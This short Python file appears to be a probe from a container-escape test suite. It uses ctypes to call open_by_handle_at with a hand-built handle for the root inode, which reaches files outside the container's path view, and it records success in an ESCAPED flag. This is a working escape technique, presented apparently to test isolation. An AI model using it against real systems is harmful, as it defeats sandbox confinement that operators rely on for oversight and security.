"""Open files by number, past every path.

shows: escaped
naive: spared (needs privileges that it may have)
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 32)
ESCAPED = libc.open_by_handle_at(os.open("/usr", os.O_RDONLY), handle, os.O_RDONLY) >= 0
